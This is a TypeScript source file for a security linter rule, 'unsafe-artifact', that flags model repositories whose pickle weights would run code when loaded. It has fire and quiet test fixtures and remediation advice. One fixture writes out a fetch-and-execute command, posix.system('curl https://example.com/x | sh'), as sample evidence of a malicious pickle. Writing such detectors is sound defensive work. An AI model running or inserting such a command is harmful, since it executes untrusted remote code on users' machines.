/** A repository in which a file would run code, or reach files, network or processes, when it is loaded. */

import type { Rule, RuleMeta } from '../model.ts';
import { confidenceIn, filesIn, hubDiffers, REACHED, toldOf, type Weights, worstMet } from './artifact.ts';
import { COMMIT, live, scan, scannedFile } from './example.ts';
import { placesOf } from './wording.ts';

const TEXT = 'from transformers import AutoModel\nmodel = AutoModel.from_pretrained("heron-labs/tern-7b")\n';
const CALL = {
  kind: 'dangerous-call',
  severity: 'critical',
  within: ['tern/data.pkl'],
  offset: 24,
  subject: 'posix.system',
  message: 'REDUCE calls a name that runs programs or reaches the operating system.',
  details: ["posix.system('curl https://example.com/x | sh')"],
} as const;
const DANGEROUS = { verdict: 'dangerous', evidence: [CALL] } as const;

const meta: RuleMeta = {
  name: 'unsafe-artifact',
  severity: 'critical',
  persona: 'regular',
  needsHub: true,
  needsScan: true,
  summary: 'A file of the repository would run code, or reach files, network or processes, when it is loaded.',
  why: `A pickle is a program: loading it calls what it names. namesake reads the files at the commit that the reference loads (the pinned one, else today's), runs every
pickle abstractly without loading it, looks into containers, and finds here what no checkpoint needs.

| the file is what is loaded | which file is loaded is not known | other files are loaded, or nothing is |
| --- | --- | --- |
| critical | high | medium |

The message names what is called, with its arguments, and says so where the Hub's own scanners call the same file safe. \`namesake scan namespace/name@commit\` shows all there is.`,
  mend: `Do not load it. Where the repository has the weights as safetensors too, load those (\`use_safetensors=True\`); else find another source, or ask its author. A file that is
meant to do what it does can be ignored with a reason.`,
  fires: [
    {
      file: 'load.py',
      text: TEXT,
      hub: 'Its only weights, pytorch_model.bin, call posix.system.',
      resolution: live('heron-labs/tern-7b'),
      scan: scan({ files: [scannedFile('pytorch_model.bin', { ...DANGEROUS, loaded: 'weights', hub: 'safe' })] }),
    },
    {
      file: 'load.py',
      text: TEXT,
      hub: 'It has safetensors, and beside them a pickle that calls posix.system.',
      resolution: live('heron-labs/tern-7b'),
      scan: scan({
        files: [
          scannedFile('model.safetensors', { format: 'safetensors', loaded: 'weights' }),
          scannedFile('training/old.pkl', DANGEROUS),
        ],
      }),
    },
  ],
  quiet: [
    {
      file: 'load.py',
      text: TEXT,
      hub: 'Its weights are a pickle that does nothing but what a checkpoint needs.',
      resolution: live('heron-labs/tern-7b', { commit: COMMIT }),
      scan: scan({ files: [scannedFile('pytorch_model.bin', { loaded: 'weights' })] }),
    },
    {
      file: 'load.py',
      text: TEXT,
      hub: 'Its files could not be listed (`inconclusive-artifact` says so).',
      resolution: live('heron-labs/tern-7b'),
      scan: { state: 'unknown', why: 'the Hub answered 503 four times' },
    },
  ],
};

const WEIGHTS: Weights = { loaded: 'critical', possible: 'high', beside: 'medium', named: 'medium' };

export const rule: Rule = {
  meta,
  check(subject) {
    const worst = subject.is === 'template' ? null : worstMet(subject, 'dangerous', WEIGHTS);
    if (subject.is === 'template' || worst === null) return null;
    const { severity, met } = worst;
    const [{ file, reach }] = met;
    return {
      severity,
      confidence: confidenceIn(met),
      message: `${filesIn(subject, met)} would run code or reach out when loaded, and ${REACHED[reach]}: ${toldOf(file)}.${hubDiffers(file)}`,
      advice: 'Do not load it: take safetensors, or another source; namesake scan shows everything that it would do',
      places: placesOf(new Set(met.map(({ reference }) => reference))),
    };
  },
};
